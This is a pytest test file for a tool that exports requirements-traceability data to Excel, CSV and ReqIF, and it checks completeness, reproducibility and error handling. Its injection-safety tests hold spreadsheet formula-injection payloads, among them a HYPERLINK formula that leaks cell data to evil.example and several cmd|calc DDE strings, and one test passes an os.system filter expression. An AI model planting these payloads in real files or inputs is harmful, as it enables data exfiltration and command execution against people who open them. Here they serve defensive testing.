"""Audit exports (_ext/kb_export/): nothing lost, reproducible, injection-safe, clear on bad
input, filtered, usable on another project's needs.json, offered by the site.

The site is built once (the ``site`` fixture); the exporter runs on its needs.json as a
separate process, as ``make export`` runs it."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import tomllib
import zipfile
from collections import Counter
from pathlib import Path

import jsonschema_rs
import openpyxl
import pytest
import reqif
import xmlschema
from lxml import etree
from reqif.parser import ReqIFParser

from conftest import ROOT, of_type, run_exporter

from kb_export import crosswalk as kb_export_crosswalk
from kb_export.ordering import natural_key
from kb_export.tables import FORMULA_TRIGGERS, untext

BASE_URL = "https://kb.example.org/"
REPORT_SHEETS = {"About", "Traceability matrix", "Coverage summary", "Crosswalk", "Framework coverage",
                 "Framework gaps"}
EVERY_FILE = {"traceability.xlsx", "traceability.reqif", "needs.json", "sbom.cdx.json", "manifest.json",
              "SHA256SUMS", "about.csv", "requirements.csv", "traceability-matrix.csv",
              "design-controls.csv", "tests.csv", "post-market-activities.csv", "standards.csv",
              "coverage-summary.csv", "crosswalk.csv", "framework-coverage.csv", "framework-gaps.csv",
              "type-guideline.csv", "type-clause.csv", "type-fit.csv"}
MODEL = tomllib.loads((ROOT / "ubproject.toml").read_text(encoding="utf-8"))
# The crosswalk's evidence levels: mapping link type -> marker, as the model declares them.
EVIDENCE = {link: decl["marker"] for link, decl in MODEL["kb"]["evidence"].items()}
FITS = MODEL["kb"]["crosswalk"]["fits"]
CROSSWALK_COLUMNS = ["Requirement", "Requirement title", "Section", "Framework", "Framework document",
                     "Clause", "Clause ref", "Clause title", "Relation", "Fit", "Reason", "Fit ID",
                     "Evidence", "Link type"]


def run_export(needs_json: Path, out: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    """The command line as `make export` runs it, with the site's model."""
    return run_exporter(str(needs_json), "-o", str(out), "--model", str(ROOT / "ubproject.toml"), *args, env=env)


def link_types_of(document: dict) -> list[str]:
    block = document["versions"][document["current_version"]]
    properties = block.get("needs_schema", {}).get("properties", {})
    declared = {k for k, p in properties.items() if p.get("field_type") == "links"}
    keys = {k for n in block["needs"].values() for k in n}
    return sorted(declared | {k for k in keys if f"{k}_back" in keys and not k.endswith("_back")})


def links_of(needs: dict[str, dict], link_types: list[str]) -> set[tuple[str, str, str]]:
    return {(i, lt, t) for i, n in needs.items() for lt in link_types for t in n.get(lt) or []}


# ------------------------------------------------------------------ reading the files back

def read_xlsx(path: Path, link_types: list[str]) -> tuple[dict[str, str], set]:
    """need ID -> title, and every (source, link type, target), from the type sheets."""
    titles, links = {}, set()
    workbook = openpyxl.load_workbook(path)
    for ws in workbook.worksheets:
        rows = list(ws.iter_rows(values_only=True))
        header = [untext(h) for h in rows[0]]
        if ws.title in REPORT_SHEETS:
            continue
        assert header[:2] == ["id", "title"], ws.title
        for row in rows[1:]:
            need_id = untext(row[0])
            titles[need_id] = untext(row[1])
            for lt in link_types:
                if lt in header and row[header.index(lt)] is not None:
                    links |= {(need_id, lt, t) for t in untext(row[header.index(lt)]).split("\n")}
    return titles, links


def read_csvs(directory: Path, link_types: list[str]) -> tuple[dict[str, str], set]:
    titles, links = {}, set()
    for path in sorted(directory.glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        header = [untext(h) for h in rows[0]]
        if header[:2] != ["id", "title"]:
            continue
        for row in rows[1:]:
            need_id = untext(row[0])
            titles[need_id] = untext(row[1])
            for lt in link_types:
                if lt in header and row[header.index(lt)]:
                    links |= {(need_id, lt, t) for t in untext(row[header.index(lt)]).split("\n")}
    return titles, links


class ReadReqIF:
    """The needs of a ReqIF file: ID, type, title, content, fields, links."""

    def __init__(self, path: Path) -> None:
        bundle = ReqIFParser.parse(str(path))
        content = bundle.core_content.req_if_content
        self.content = content
        attr_names, self.type_names, enum_names = {}, {}, {}
        self.relation_type_names: dict[str, str] = {}  # link type -> the relation type's LONG-NAME
        for dt in content.data_types:
            for value in getattr(dt, "values", None) or []:
                enum_names[value.identifier] = value.long_name
        for spec_type in content.spec_types:
            self.type_names[spec_type.identifier] = spec_type.long_name
            if type(spec_type).__name__ == "ReqIFSpecRelationType":
                # a mapping's relation type is "<link type> <evidence marker>"; a link type has no space
                link = spec_type.long_name.split(" ", 1)[0]
                self.type_names[spec_type.identifier] = link
                self.relation_type_names[link] = spec_type.long_name
            for definition in getattr(spec_type, "attribute_definitions", None) or []:
                attr_names[definition.identifier] = definition.long_name
        self.needs, self.links, self.objects = {}, set(), {}
        for obj in content.spec_objects:
            values = {}
            for a in obj.attributes:
                v = a.value
                if isinstance(v, list):
                    v = [enum_names[e] for e in v]
                elif a.attribute_type.name == "XHTML":
                    v = xhtml_text(a.xml_node)
                values[attr_names[a.definition_ref]] = v
            self.objects[obj.identifier] = values
            if "ReqIF.ForeignID" in values:
                values["type"] = self.type_names[obj.spec_object_type]
                self.needs[values["ReqIF.ForeignID"]] = values
                for lt, targets in json.loads(values.get("unresolved links", "{}")).items():
                    self.links |= {(values["ReqIF.ForeignID"], lt, t) for t in targets}
        for rel in content.spec_relations:
            source = self.objects[rel.source]["ReqIF.ForeignID"]
            target = self.objects[rel.target]["ReqIF.ForeignID"]
            self.links.add((source, self.type_names[rel.relation_type_ref], target))


def xhtml_text(node) -> str:
    """The paragraphs of an ATTRIBUTE-VALUE-XHTML, read from its XML node: reqif's own string
    of the value is re-serialised and loses carriage returns."""
    paragraphs = [e for e in node.iter() if isinstance(e.tag, str) and etree.QName(e).localname == "p"]
    return "\n\n".join("".join(p.itertext()) for p in paragraphs)


def reqif_schema() -> xmlschema.XMLSchema:
    """The ReqIF 1.2 schema (OMG namespace .../ReqIF/20110401/reqif.xsd) as shipped in the reqif
    package; its imports are relative to the package's parent directory."""
    package_parent = Path(reqif.__file__).resolve().parents[1]
    cwd = os.getcwd()
    os.chdir(package_parent)
    try:
        return xmlschema.XMLSchema(str(package_parent / "reqif" / "reqif_schema" / "reqif.xsd"))
    finally:
        os.chdir(cwd)


# ------------------------------------------------------------------ the export of the site

@pytest.fixture(scope="module")
def needs_json(site) -> Path:
    return site.outdir / "needs.json"


@pytest.fixture(scope="module")
def document(needs_json) -> dict:
    return json.loads(needs_json.read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def exported(needs_json, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("export") / "out"
    proc = run_export(needs_json, out, "--base-url", BASE_URL)
    assert proc.returncode == 0, proc.stderr
    return out


def test_export_writes_every_file_and_checksums(exported):
    assert {p.name for p in exported.iterdir()} == EVERY_FILE
    check = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=exported, capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    listed = {line.split("  ", 1)[1] for line in (exported / "SHA256SUMS").read_text().splitlines()}
    assert listed == EVERY_FILE - {"SHA256SUMS"}


def test_xlsx_gives_back_every_need_and_link(exported, needs, document):
    link_types = link_types_of(document)
    titles, links = read_xlsx(exported / "traceability.xlsx", link_types)
    assert titles == {i: n["title"] for i, n in needs.items()}
    assert links == links_of(needs, link_types)
    assert len(links) > 800


def test_csvs_give_back_every_need_and_link(exported, needs, document):
    link_types = link_types_of(document)
    titles, links = read_csvs(exported, link_types)
    assert titles == {i: n["title"] for i, n in needs.items()}
    assert links == links_of(needs, link_types)


def test_csvs_are_rfc4180_utf8(exported):
    for path in exported.glob("*.csv"):
        raw = path.read_bytes()
        raw.decode("utf-8")
        assert not raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n"), path.name
        with open(path, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f, strict=True))
        assert len({len(r) for r in rows}) == 1, f"{path.name}: records of different lengths"


def test_reqif_gives_back_every_need_field_and_link(exported, needs, document):
    link_types = link_types_of(document)
    read = ReadReqIF(exported / "traceability.reqif")
    assert set(read.needs) == set(needs)
    assert read.links == links_of(needs, link_types)
    for need_id, need in needs.items():
        got = read.needs[need_id]
        assert got["type"] == need["type_name"]
        assert got["ReqIF.Name"] == need["title"]
        assert got.get("ReqIF.Text", "") == need["content"]
        for field in ("section", "stakeholder", "phase", "tags", "coverage", "rationale", "method", "trigger"):
            if need.get(field) not in (None, "", []):
                assert got[field] == need[field], (need_id, field)


def test_reqif_is_valid_against_the_reqif_schema(exported):
    errors = list(reqif_schema().iter_errors(str(exported / "traceability.reqif")))
    assert errors == [], str(errors[0])[:2000]


def test_reqif_types_relations_and_section_tree(exported, needs, document):
    read = ReadReqIF(exported / "traceability.reqif")
    kinds = {type(t).__name__: set() for t in read.content.spec_types}
    for t in read.content.spec_types:
        kinds[type(t).__name__].add(t.long_name)
    assert {n["type_name"] for n in needs.values()} <= kinds["ReqIFSpecObjectType"]
    assert set(link_types_of(document)) == set(read.relation_type_names)
    assert set(read.relation_type_names.values()) == kinds["ReqIFSpecRelationType"]
    # a specification per guideline: its headings by section number, each requirement under its own
    for guideline in of_type(needs, "guideline").values():
        spec = next(s for s in read.content.specifications if s.long_name == guideline["title"])
        placed: dict[str, list[str]] = {}

        def walk(children, path):
            for h in children or []:
                values = read.objects[h.spec_object]
                if "ReqIF.ChapterName" in values:
                    walk(h.children, [*path, values["ReqIF.ChapterName"]])
                else:
                    placed[values["ReqIF.ForeignID"]] = path

        walk(spec.children, [])
        reqs = {i: n for i, n in of_type(needs, "req").items() if n["derives_from"] == [guideline["id"]]}
        assert reqs and set(reqs) | {guideline["id"]} == set(placed)
        for need_id, need in reqs.items():
            section = need["section"]
            assert re.search(rf"(^|[\s§]){re.escape(section)}(\s|$)", placed[need_id][-1]) \
                or placed[need_id][-1] == f"Section {section}", (need_id, placed[need_id])
            assert len(placed[need_id]) == section.count(".") + 1
        if guideline["id"] == "GL_IMDRF_N60":
            assert placed["REQ_N60_5_3_01"] == ["N60 §5 Pre-market considerations", "N60 §5.3 Security testing"]


def test_matrix_and_summary_equal_needs_json(exported, needs):
    workbook = openpyxl.load_workbook(exported / "traceability.xlsx")
    rows = list(workbook["Traceability matrix"].iter_rows(values_only=True))
    header = rows[0]
    reqs = of_type(needs, "req")
    assert [r[0] for r in rows[1:]] and {r[0] for r in rows[1:]} == set(reqs)

    def ids(cell):
        return set(cell.split("\n")) if cell else set()

    for row in rows[1:]:
        need = reqs[row[0]]
        designs = {d for d in need["implements_back"] if needs[d]["type"] == "design"}
        assert ids(row[header.index("Design controls")]) == designs
        assert ids(row[header.index("Tests of the design controls")]) == {
            t for d in designs for t in needs[d]["verifies_back"] if needs[t]["type"] == "test"}
        assert ids(row[header.index("Tests of the requirement")]) == {
            t for t in need["verifies_back"] if needs[t]["type"] == "test"}
        assert ids(row[header.index("Post-market activities")]) == {
            p for p in need["maintains_back"] if needs[p]["type"] == "postmarket"}
        assert row[header.index("Coverage")] == need["coverage"]
    summary = list(workbook["Coverage summary"].iter_rows(values_only=True))
    all_row = summary[-1]
    states = [n["coverage"] for n in reqs.values()]
    assert all_row[:6] == ("All", None, len(reqs), states.count("covered"), states.count("justified"),
                           states.count("gap"))


# ------------------------------------------------------------------ the crosswalk

def fits_of(needs: dict[str, dict]) -> dict[tuple[str, str], dict]:
    """(requirement, clause) -> its fit, from the fit needs of needs.json."""
    fits = [n for n in needs.values() if n["type"] == FITS["type"]]
    return {(f[FITS["requirement"]][0], f[FITS["clause"]][0]): f for f in fits}


def mappings_of(needs: dict[str, dict]) -> list[tuple]:
    """Every maps_* link of needs.json as a row of the Crosswalk sheet, with the fit that
    judges it, from needs.json alone."""
    rows = []
    fits = fits_of(needs)
    for need in needs.values():
        for link in sorted(k for k in need if k.startswith("maps_") and not k.endswith("_back")):
            for clause_id in need[link]:
                clause = needs[clause_id]
                framework = clause["part_of"][0]
                fit = fits.get((need["id"], clause_id))
                level = fit[FITS["level"]] if fit else "topic only"
                rows.append((need["id"], need["title"], need.get("section") or "", framework,
                             needs[framework]["doc_id"], clause_id, clause["clause_ref"],
                             clause["clause_title"] or "", "maps to" if level in FITS["maps_to"] else "see also",
                             level, fit[FITS["reason"]] if fit else "", fit["id"] if fit else "",
                             EVIDENCE[link], link))
    return rows


def crosswalk_rows_xlsx(path: Path) -> tuple[list, list[tuple]]:
    rows = list(openpyxl.load_workbook(path)["Crosswalk"].iter_rows(values_only=True))
    return [untext(h) for h in rows[0]], [tuple(untext(v) for v in r) for r in rows[1:]]


def crosswalk_rows_csv(path: Path) -> tuple[list, list[tuple]]:
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    return [untext(h) for h in rows[0]], [tuple(untext(v) for v in r) for r in rows[1:]]


def test_mapping_link_types_are_the_models_evidence_levels(document):
    """The maps_* link types of needs.json are those of [kb.evidence], every one is in use, and
    the exporter's built-in markers (used without a table, e.g. by make export) are the model's."""
    maps = {l for l in link_types_of(document) if l.startswith("maps_")}
    assert maps == set(EVIDENCE)
    assert {l for l, d in MODEL["needs"]["links"].items() if d["target_types"] == ["clause"]} == \
        maps | {FITS["clause"]}
    assert kb_export_crosswalk.EVIDENCE == EVIDENCE
    assert kb_export_crosswalk.FITS == FITS  # the exporter's built-in names are the model's


def test_crosswalk_sheet_and_csv_hold_every_mapping_with_its_evidence(exported, needs):
    expected = mappings_of(needs)
    assert len(expected) > 5000
    assert {r[-1] for r in expected} == set(EVIDENCE)  # every evidence level occurs
    for header, rows in (crosswalk_rows_xlsx(exported / "traceability.xlsx"),
                         crosswalk_rows_csv(exported / "crosswalk.csv")):
        assert header == CROSSWALK_COLUMNS
        assert Counter(rows) == Counter(expected)  # exactly the maps_* links, each once
        assert all(r[12] == EVIDENCE[r[13]] for r in rows)
    levels = Counter(r[9] for r in expected)
    assert set(levels) == {"full", "partial", "related", "topic only"}
    facts = json.loads((exported / "manifest.json").read_text())["export"]
    assert facts["crosswalk"] == {"topic links": len(expected), "fits by level": dict(sorted(levels.items())),
                                  "evidence marker per mapping link type": EVIDENCE}


def test_every_maps_to_row_carries_its_fit_level_and_reason(exported, needs):
    """Only a full or partial fit is "maps to"; every such row has its level, reason and fit
    ID, and the evidence of the fit is the evidence of the topic link it judges."""
    _, rows = crosswalk_rows_csv(exported / "crosswalk.csv")
    maps_to = [r for r in rows if r[8] == "maps to"]
    assert maps_to and len(maps_to) < len(rows) / 4
    for row in rows:
        assert (row[8] == "maps to") == (row[9] in FITS["maps_to"]), row
        if row[9] != "topic only":
            fit = needs[row[11]]
            assert (fit[FITS["level"]], fit[FITS["reason"]], fit[FITS["evidence"]]) == (row[9], row[10], row[12])
            assert row[10].endswith(".") and len(row[10]) >= 20


def framework_coverage_of(needs: dict[str, dict]) -> list[tuple]:
    per = {}
    for (req_id, clause_id), fit in fits_of(needs).items():
        if fit[FITS["level"]] in FITS["maps_to"]:
            framework = needs[clause_id]["part_of"][0]
            per.setdefault((framework, req_id), {"full": [], "partial": []})[fit[FITS["level"]]].append(clause_id)
    rows = []
    for (framework, req_id), levels in per.items():
        req = needs[req_id]
        rows.append((framework, needs[framework]["doc_id"], req_id, req["title"], req["section"],
                     *("\n".join(sorted(levels[l], key=lambda c: (natural_key(needs[c]["clause_ref"]), natural_key(c))))
                       for l in ("full", "partial"))))
    return rows


def framework_gaps_of(needs: dict[str, dict]) -> list[tuple]:
    fits = fits_of(needs)
    reached = {c for (_, c), f in fits.items() if f[FITS["level"]] in FITS["maps_to"]}
    rows = []
    for clause in of_type(needs, "clause").values():
        if clause["id"] in reached:
            continue
        related = sorted((r for (r, c) in fits if c == clause["id"]), key=natural_key)
        topic = {n for link in EVIDENCE for n in clause[f"{link}_back"]}
        framework = clause["part_of"][0]
        rows.append((framework, needs[framework]["doc_id"], clause["id"], clause["clause_ref"],
                     clause["clause_title"] or "", "\n".join(related), str(len(topic))))
    return rows


def test_framework_coverage_and_gap_sheets_are_the_fits_both_ways(exported, needs):
    """Per framework, the requirements a full or partial fit maps there, and the clauses no such
    fit reaches; the same rows in the workbook and the CSV files."""
    workbook = openpyxl.load_workbook(exported / "traceability.xlsx")
    for title, csv_name, expected in (("Framework coverage", "framework-coverage.csv", framework_coverage_of(needs)),
                                      ("Framework gaps", "framework-gaps.csv", framework_gaps_of(needs))):
        assert len(expected) > 50, title
        sheet = [tuple("" if v is None else untext(v) for v in r) for r in workbook[title].iter_rows(values_only=True)]
        _, from_csv = crosswalk_rows_csv(exported / csv_name)
        assert Counter(tuple(str(v) for v in r) for r in sheet[1:]) == Counter(expected), title
        assert Counter(from_csv) == Counter(expected), title
    gaps = {r[2] for r in framework_gaps_of(needs)}
    covered = {c for r in framework_coverage_of(needs) for cell in r[5:] for c in cell.split("\n") if c}
    assert gaps and not gaps & covered and gaps | covered == set(of_type(needs, "clause"))


def test_crosswalk_rows_are_sorted_by_requirement_framework_and_clause(exported, needs):
    _, rows = crosswalk_rows_csv(exported / "crosswalk.csv")
    keys = [(natural_key(r[2]), natural_key(r[0]), natural_key(r[3]), natural_key(r[6]), natural_key(r[5]),
             list(EVIDENCE).index(r[13])) for r in rows]
    assert keys == sorted(keys)
    # the requirements in the order of the Requirements sheet, each one's rows together
    with open(exported / "requirements.csv", newline="", encoding="utf-8") as f:
        order = [untext(r[0]) for r in list(csv.reader(f))[1:]]
    seen = [r[0] for i, r in enumerate(rows) if i == 0 or rows[i - 1][0] != r[0]]
    assert len(seen) == len(set(seen)) and seen == [i for i in order if i in set(seen)]
    workbook = openpyxl.load_workbook(exported / "traceability.xlsx")
    ws = workbook["Crosswalk"]
    assert workbook.sheetnames.index("Crosswalk") == workbook.sheetnames.index("Coverage summary") + 1
    for row in ws.iter_rows(min_row=2, max_row=50):
        need = needs[row[0].value]
        assert row[0].hyperlink.target == f"{BASE_URL}{need['docname']}.html#{need['id']}"


def test_reqif_relations_of_mappings_are_typed_by_evidence_level(exported, needs):
    read = ReadReqIF(exported / "traceability.reqif")
    for link, marker in EVIDENCE.items():
        assert read.relation_type_names[link] == f"{link} {marker}"
        relations = {(s, t) for s, l, t in read.links if l == link}
        assert relations == {(i, t) for i, n in needs.items() for t in n[link]}, link
    assert {l: n for l, n in read.relation_type_names.items() if l not in EVIDENCE} == \
        {l: l for l in read.relation_type_names if l not in EVIDENCE}  # other link types: their name
    descriptions = {t.long_name: t.description for t in read.content.spec_types
                    if type(t).__name__ == "ReqIFSpecRelationType"}
    assert descriptions["maps_primary [P]"] == \
        "sphinx-needs link type maps_primary: a crosswalk mapping to a framework clause, evidence level [P]"


def test_workbook_layout(exported, needs):
    workbook = openpyxl.load_workbook(exported / "traceability.xlsx")
    assert workbook.sheetnames[:9] == ["About", "Requirements", "Traceability matrix", "Design controls",
                                       "Tests", "Post-market activities", "Standards", "Coverage summary",
                                       "Crosswalk"]
    assert workbook.sheetnames[9:11] == ["Framework coverage", "Framework gaps"]
    for ws in workbook.worksheets:
        assert ws.freeze_panes in ("A2", "B2"), ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
        assert ws.page_setup.orientation == "landscape" and ws.print_title_rows == "$1:$1", ws.title
        assert all(c.font.b for c in ws[1]) and ws["A2"].alignment.wrap_text, ws.title
        assert all(8 <= ws.column_dimensions[c.column_letter].width <= 90 for c in ws[1]), ws.title
    ws = workbook["Requirements"]
    for row in ws.iter_rows(min_row=2):
        need = needs[row[0].value]
        assert row[0].hyperlink.target == f"{BASE_URL}{need['docname']}.html#{need['id']}"


def test_about_and_manifest_record_the_source(exported, needs_json):
    manifest = json.loads((exported / "manifest.json").read_text())
    facts = manifest["export"]
    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=ROOT, capture_output=True, text=True).stdout.strip()
    epoch = int(subprocess.run(["git", "log", "-1", "--format=%ct"], cwd=ROOT, capture_output=True, text=True).stdout)
    assert facts["source commit"] == commit
    assert facts["source commit date"].startswith(
        __import__("datetime").datetime.fromtimestamp(epoch, __import__("datetime").timezone.utc).isoformat()[:19])
    assert facts["source needs.json"]["sha256"] == hashlib.sha256(needs_json.read_bytes()).hexdigest()
    assert facts["filter"] == "none (every need)"
    assert set(facts["tools"]) == {"exporter", "python", "reqif", "lxml", "cyclonedx-bom"}  # the workbook: the exporter's
    about = {untext(r[0]): r[1] for r in openpyxl.load_workbook(exported / "traceability.xlsx")["About"]
             .iter_rows(min_row=2, values_only=True)}
    assert about["source commit"] == commit and about["tools: reqif"] == facts["tools"]["reqif"]
    assert about["needs: exported"] == facts["needs"]["exported"] == len(json.loads(needs_json.read_text())
                                                                         ["versions"][""]["needs"])


def test_sbom_is_valid_cyclonedx_of_the_toolchain(exported):
    from importlib import metadata
    bom = json.loads((exported / "sbom.cdx.json").read_text())
    resources = Path(__import__("cyclonedx").__file__).parent / "schema" / "_res"
    registry = jsonschema_rs.Registry([
        (f"http://cyclonedx.org/schema/{name}", json.loads((resources / name).read_text()))
        for name in ("spdx.SNAPSHOT.schema.json", "jsf-0.82.SNAPSHOT.schema.json")])
    schema = json.loads((resources / "bom-1.6.SNAPSHOT.schema.json").read_text())
    errors = [str(e) for e in jsonschema_rs.validator_for(schema, registry=registry).iter_errors(bom)]
    assert errors == []
    versions = {c["name"].lower(): c["version"] for c in bom["components"]}
    for dist in ("openpyxl", "reqif", "sphinx-needs", "sphinx", "lxml"):
        assert versions[dist] == metadata.version(dist), dist
    assert re.fullmatch(r"urn:uuid:[0-9a-f-]{36}", bom["serialNumber"])
    facts = json.loads((exported / "manifest.json").read_text())["export"]
    assert bom["metadata"]["timestamp"][:19] == facts["source commit date"][:19]


def test_a_kept_sbom_is_the_one_the_command_writes_and_is_kept_while_its_inputs_hold(tmp_path, monkeypatch):
    """The site's build keeps the SBOM between exports (sbom.py): the same bytes as the command
    writes; not run again while the environment, epoch and subject are the same; run again
    when one of them changes."""
    from kb_export import sbom

    cache = tmp_path / "cache"
    sbom.write(tmp_path / "fresh.json", 1600000000, "kb export at abc")
    sbom.write(tmp_path / "first.json", 1600000000, "kb export at abc", cache=cache)
    assert (tmp_path / "first.json").read_bytes() == (tmp_path / "fresh.json").read_bytes()
    assert len(list(cache.iterdir())) == 1

    def command_must_not_run(*args, **kwargs):
        raise AssertionError("cyclonedx-py ran although the kept SBOM holds")

    monkeypatch.setattr(sbom.subprocess, "run", command_must_not_run)
    sbom.write(tmp_path / "kept.json", 1600000000, "kb export at abc", cache=cache)
    assert (tmp_path / "kept.json").read_bytes() == (tmp_path / "fresh.json").read_bytes()
    for epoch, subject in ((1600000001, "kb export at abc"), (1600000000, "kb export at def")):
        with pytest.raises(AssertionError, match="ran although"):
            sbom.write(tmp_path / "other.json", epoch, subject, cache=cache)
    monkeypatch.setattr(sbom, "installed", lambda: (("kb-a-package-installed-since", "1.0"),))
    with pytest.raises(AssertionError, match="ran although"):
        sbom.write(tmp_path / "other.json", 1600000000, "kb export at abc", cache=cache)


# ------------------------------------------------------------------ reproducible

def test_two_exports_of_one_commit_are_byte_identical(needs_json, tmp_path):
    for name, seed in (("a", "1"), ("b", "2")):  # different hash seeds: no set order leaks out
        proc = run_export(needs_json, tmp_path / name, "--base-url", BASE_URL, env={"PYTHONHASHSEED": seed})
        assert proc.returncode == 0, proc.stderr
    files = sorted(p.name for p in (tmp_path / "a").iterdir())
    assert files == sorted(p.name for p in (tmp_path / "b").iterdir())
    different = [f for f in files if (tmp_path / "a" / f).read_bytes() != (tmp_path / "b" / f).read_bytes()]
    assert different == []


def test_dates_inside_come_from_source_date_epoch(needs_json, tmp_path):
    proc = run_export(needs_json, tmp_path / "out", "--no-sbom", env={"SOURCE_DATE_EPOCH": "1600000000"})
    assert proc.returncode == 0, proc.stderr
    with zipfile.ZipFile(tmp_path / "out" / "traceability.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(2020, 9, 13, 12, 26, 40)}
        core = z.read("docProps/core.xml").decode()
    assert core.count("2020-09-13T12:26:40Z") == 2
    assert "2020-09-13T12:26:40+00:00" in (tmp_path / "out" / "traceability.reqif").read_text()


# ------------------------------------------------------------------ injection-safe

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''-1"]


def test_workbook_cells_hold_text_as_written_up_to_excels_limit(tmp_path):
    long = "x" * 40000
    texts = {"ANY_1": "a < b & c > d \"quoted\" 'single' ]]> <!-- -->", "ANY_2": "  spaces around  ",
             "ANY_3": "line one\r\nline two\rthree\n", "ANY_4": "_x000D_ as text, \u00e9\u4e2d\U0001f600",
             "ANY_5": long}
    needs = {i: {"id": i, "type": "any", "type_name": "Any", "title": t, "content": t, "effort": n, "docname": "d",
                 "links": [], "links_back": []}
             for n, (i, t) in enumerate(texts.items())}
    needs_json = tmp_path / "needs.json"
    needs_json.write_text(json.dumps(foreign_document(needs)), encoding="utf-8")
    proc = run_export(needs_json, tmp_path / "out", "--no-sbom")
    assert proc.returncode == 0, proc.stderr
    ws = openpyxl.load_workbook(tmp_path / "out" / "traceability.xlsx")["Any"]
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    got = {row[0]: dict(zip(header, row)) for row in rows[1:]}
    for need_id, written in texts.items():
        if need_id != "ANY_5":
            assert got[need_id]["title"] == got[need_id]["content"] == written, need_id
    cut = got["ANY_5"]["content"]
    assert len(cut) == 32767 and cut.startswith("x" * 32000) and cut.endswith("the full text is in the CSV file and needs.json]")
    assert [got[i]["effort"] for i in texts] == [0, 1, 2, 3, 4]  # numbers stay numbers
    with open(tmp_path / "out" / "type-any.csv", newline="", encoding="utf-8") as f:
        assert [r for r in csv.reader(f) if r[0] == "ANY_5"][0][1] == long  # the CSV holds it whole


def foreign_document(needs: dict, project: str = "Foreign project") -> dict:
    return {"current_version": "1.0", "project": project,
            "versions": {"1.0": {"needs": needs, "needs_amount": len(needs)}}}


def test_formula_text_is_neutralised_in_csv_and_xlsx(tmp_path):
    needs = {f"ATT_{i}": {"id": f"ATT_{i}", "type": "attack", "type_name": "=Attack", "title": title,
                          "content": title + "\n\n<script>alert('x')</script> & more", "owner": title,
                          "tags": [title, "ok"], "docname": "attacks", "links": [], "links_back": []}
             for i, title in enumerate(FORMULAS)}
    needs_json = tmp_path / "needs.json"
    needs_json.write_text(json.dumps(foreign_document(needs)), encoding="utf-8")
    proc = run_export(needs_json, tmp_path / "out", "--no-sbom", "--base-url", BASE_URL)
    assert proc.returncode == 0, proc.stderr
    out = tmp_path / "out"
    with zipfile.ZipFile(out / "traceability.xlsx") as z:
        for name in z.namelist():
            assert not re.search(rb"<(\w+:)?f[\s>/]", z.read(name)), f"formula element in {name}"
    workbook = openpyxl.load_workbook(out / "traceability.xlsx")
    texts = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type != "f" for ws in workbook.worksheets for row in ws.iter_rows() for c in row)
    for path in out.glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as f:
            texts += [v for row in csv.reader(f) for v in row]
    dangerous = [t for t in texts if t.startswith(FORMULA_TRIGGERS)]
    assert dangerous == []
    titles, _ = read_csvs(out, [])
    assert titles == {i: n["title"] for i, n in needs.items()}
    xlsx_titles, _ = read_xlsx(out / "traceability.xlsx", [])
    assert xlsx_titles == {i: n["title"] for i, n in needs.items()}  # a CR too (XML reads a raw one as a line feed)
    read = ReadReqIF(out / "traceability.reqif")
    assert {i: n["ReqIF.Name"] for i, n in read.needs.items()} == \
        {i: " ".join(re.split(r"[\t\r]", n["title"])) for i, n in needs.items()}  # attribute values: tab, CR are spaces
    assert {i: n["ReqIF.Text"] for i, n in read.needs.items()} == {i: n["content"] for i, n in needs.items()}
    assert list(reqif_schema().iter_errors(str(out / "traceability.reqif"))) == []


# ------------------------------------------------------------------ bad input

BAD_INPUTS = {
    "empty file": (b"", "not valid JSON"),
    "truncated JSON": (b'{"versions": {"": {"needs": {', "not valid JSON"),
    "not UTF-8": (b'{"project": "\xff\xfe"}', "not UTF-8"),
    "a list": (b"[1, 2]", "the top level is a list"),
    "another JSON document": (b'{"name": "package", "version": "1.0"}', "no 'versions' object"),
    "no needs": (b'{"current_version": "", "versions": {"": {"filters": {}}}}', "has no 'needs' object"),
    "unknown current version": (b'{"current_version": "2", "versions": {"1": {"needs": {}}}}', "current_version '2'"),
    "need without id": (b'{"current_version": "", "versions": {"": {"needs": {"A": {"type": "req"}}}}}', "has no 'id'"),
    "id differs from key": (b'{"current_version": "", "versions": {"": {"needs": {"A": {"id": "B", "type": "req"}}}}}',
                            "different id"),
    "need without type": (b'{"current_version": "", "versions": {"": {"needs": {"A": {"id": "A"}}}}}', "has no 'type'"),
    "link not a list": (b'{"current_version": "", "versions": {"": {"needs": {"A": {"id": "A", "type": "req", '
                        b'"links": "B", "links_back": []}}}}}', "link field 'links' is not a list"),
}


@pytest.mark.parametrize("case", BAD_INPUTS, ids=list(BAD_INPUTS))
def test_bad_input_gives_one_clear_line_and_writes_nothing(case, tmp_path):
    content, message = BAD_INPUTS[case]
    needs_json = tmp_path / "in" / "needs.json"
    needs_json.parent.mkdir()
    needs_json.write_bytes(content)
    proc = run_export(needs_json, tmp_path / "out" / "export")
    assert proc.returncode == 2
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and str(needs_json) in lines[0] and message in lines[0], proc.stderr
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == ["in", "in/needs.json"]


def test_missing_file_and_bad_filter_are_one_line_errors(needs_json, tmp_path):
    proc = run_export(tmp_path / "nowhere.json", tmp_path / "out")
    assert proc.returncode == 2 and "nowhere.json: cannot read" in proc.stderr
    for bad, message in (("__import__('os').system('true')", "may be called"), ("tag == 'sbom'", "did you mean 'tags'"),
